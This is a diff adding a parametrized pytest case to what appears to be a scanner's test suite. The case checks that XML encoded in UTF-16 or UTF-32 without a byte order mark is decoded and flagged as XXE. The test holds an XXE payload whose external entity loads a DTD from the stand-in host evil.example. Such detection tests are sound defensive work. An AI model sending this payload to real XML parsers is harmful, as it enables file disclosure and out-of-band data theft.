@@ -136,3 +136,14 @@ def test_a_message_with_a_broken_structure_is_also_inspected_whole() -> None:
 def test_text_with_a_few_header_like_lines_is_not_taken_for_mail() -> None:
     fields, _ = _verdict("notes.txt", b"Title: plans\nAuthor: me\n\nbody text")
     assert fields == [Field(PATH, "Title: plans\nAuthor: me\n\nbody text")]
+
+
+XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><r/>'
+
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-32"])
+def test_xml_in_utf16_or_utf32_without_a_mark_is_read_as_its_parser_reads_it(encoding: str) -> None:
+    """An XML parser reads UTF-16 without a byte order mark by how `<?` is spelled (XML 1.0, F.1):
+    the payload used to stay bytes and only a weak signature fired."""
+    fields, ids = _verdict("upload/data.xml", XXE.encode(encoding))
+    assert Field(PATH, XXE) in fields and any(i.startswith("FW-XXE") for i in ids)
